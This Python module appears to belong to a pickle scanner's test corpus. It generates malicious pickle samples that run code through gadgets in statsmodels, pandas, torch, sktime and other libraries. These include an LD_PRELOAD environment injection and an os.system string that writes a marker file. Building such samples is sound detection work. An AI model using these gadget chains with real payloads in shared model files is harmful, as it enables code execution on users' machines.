"""Pickles that call an object by way of another one, which calls it when a member is set or read.

The object is statsmodels' runner of tests: it writes a report to the file that its path names.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.promotion_steps.corpus.opcodes import called, imported, number, text
from tests.promotion_steps.corpus.sample import Sample


def built(name: str, **state: bytes) -> bytes:
    """Return the opcodes of a plain instance with attributes."""
    return imported(name) + b")\x81" + members(**state) + b"b"


def members(**values: bytes) -> bytes:
    """Return the opcodes of a dictionary."""
    return b"}(" + b"".join(text(name) + body for name, body in values.items()) + b"u"


def member(name: str, value: bytes) -> bytes:
    """Return the opcodes that set an item of what is on the stack."""
    return text(name) + value + b"s"


RUNNER = built(
    "statsmodels.tools._test_runner.PytestTester", package_path=text("--junitxml=$SCANNER_MARK")
)
SYMBOLS = "statsmodels.tsa.statespace.representation.Representation"
_PLAIN_TEMPLATE = (
    "\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"
    "\ndef _parse_args_rvs(self, loc=0, scale=1, size=None):\n"
    "    return self._argcheck_rvs(loc, scale, size=size)\n"
    "\ndef _parse_args_stats(self, loc=0, scale=1, moments='mv'):\n"
    "    return (), loc, scale, moments\n"
)


def malicious() -> Iterator[Sample]:
    """Yield pickles whose call is made by a library."""
    for name, content in ways(RUNNER):
        yield _sample(name, content, "pickle.load")
    for name, content in (*ways_of_other_libraries(RUNNER), *_reached()):
        yield _sample(name, content, None)


def _sample(name: str, content: bytes, loader: str | None) -> Sample:
    body = b"\x80\x04" + content + b"."
    return Sample(name=f"call-{name}", filename="model.pkl", content=body, loader=loader)


def ways(callee: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield the ways to have what some opcodes push called, by installed libraries."""
    one = members(a=number(1))
    made = called("collections.defaultdict", callee)
    yield "by-a-factory", called("builtins.dict", called("collections.ChainMap", made, one))
    chain = imported("collections.ChainMap") + b")\x81" + members(maps=b"](" + made + one + b"e")
    yield "by-a-factory-in-a-state", called("builtins.dict", chain + b"b")
    slots = b"N" + members(default_factory=callee) + b"\x86b"
    late = called("collections.ChainMap", called("collections.defaultdict") + slots, one)
    yield "by-a-factory-in-slots", called("builtins.dict", late)
    for kind in ("DataFrame", "Series"):
        yield f"by-a-key-of-{kind.lower()}", called(f"pandas.{kind}", b"]") + callee + b"Ns"
        group = b"(" + callee + b"Nu"
        yield f"by-keys-of-{kind.lower()}", called(f"pandas.{kind}", b"]") + group
    plain = built(SYMBOLS, shapes=members(__setstate__=b"N"))
    yield "by-a-state-set-as-an-item", plain + member("__setstate__", callee) + b"]b"
    model = built("statsmodels.tsa.statespace.mlemodel.MLEModel", ssm=b"h\x05")
    through = plain + b"q\x050" + model + member("__setstate__", callee)
    yield "by-a-state-set-through-another", through + b"0h\x05]b"


def ways_of_other_libraries(callee: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield those of PyTorch, and of Python 3.13, which takes a mapping for attributes."""
    empty = called("collections.OrderedDict")
    names = called("collections.OrderedDict") + member("__setstate__", callee)
    tensor = called("torch.Tensor")
    rebuilt = called("torch._utils._rebuild_parameter_with_state", tensor, b"\x89", empty, names)
    yield "by-a-parameter-of-torch", rebuilt + b"]b"
    arguments = b"(" + tensor + b"\x89" + empty + b"t"
    rebuild, kind = imported("torch._utils._rebuild_parameter"), imported("torch.Tensor")
    by_type = called("torch._tensor._rebuild_from_type_v2", rebuild, kind, arguments, names)
    yield "by-a-tensor-of-torch", by_type + b"]b"
    for name in ("values", "setdefault"):
        holder = built("argparse.Namespace", **{name: callee})
        key = "state" if name == "values" else "defaults"
        usual = {"state": b"}", "defaults": b"}", "param_groups": b"]"} | {key: holder}
        yield f"by-the-{key}-of-an-optimizer", built("torch.optim.adam.Adam", **usual)
    mapping = members(__setstate__=callee)
    yield "by-a-namespace-of-a-mapping", called("types.SimpleNamespace", mapping) + b"]b"


def _reached() -> Iterator[tuple[str, bytes]]:
    distributions = b"cscipy.stats._continuous_distns\n"
    plain = {"_parse_arg_template": text(_PLAIN_TEMPLATE)}
    encode = imported("_codecs.encode")
    state = members(**plain, encodekey=encode, encodevalue=encode, _data=b"}")
    environment = distributions + b"ctypes._os._Environ\n)\x81" + state + b"b"
    yield "of-the-environment", environment + member("LD_PRELOAD", text("model.so"))
    for name in ("ctypes.CDLL", "np.lib.npyio.NpzFile", "rv_continuous.__class__", "FitError"):
        yield f"of-{name}", distributions + name.encode() + b"\n)\x81"
    for name in ("lightgbm.basic.Booster", "sklearn.svm._classes.SVC"):
        maker = called("numpy.random._pickle.__generator_ctor", text("x"), imported(name))
        yield f"of-{name}-by-a-generator", maker
    yield (
        "of-a-class-by-a-factory",
        called("collections.defaultdict", imported("xgboost.core.Booster")),
    )
    for name in (
        "category_encoders.hashing.ProcessPoolExecutor",
        "sktime.transformations.fabba.Pool",
        "statsmodels.base.model.FormulaManager",
        "sktime.forecasting.ttm.StdoutMute",
    ):
        yield f"of-a-borrowed-{name.rpartition('.')[2]}", imported(name) + b")\x81"
    kind = called("numpy.dtypes.Float64DType")
    state = b"(K\x03" + text("|") + b"NNN" + number(-1) + number(-1) + number(63) + b"tb"
    yield "of-a-type-with-a-state", kind + state
    yield "of-items-of-what-nothing-tells", b"Pname\n" + member("a", b"N")
    evaluated = b"](" + text("__import__('os').system('echo x>$SCANNER_MARK')") + b"e"
    for name in (
        "sktime.classification.kernel_based._svc.TimeSeriesSVC",
        "sktime.forecasting.arima._pmdarima.ARIMA",
    ):
        yield f"by-parameters-of-{name.rpartition('.')[2]}", built(name, DELEGATED_PARAMS=evaluated)
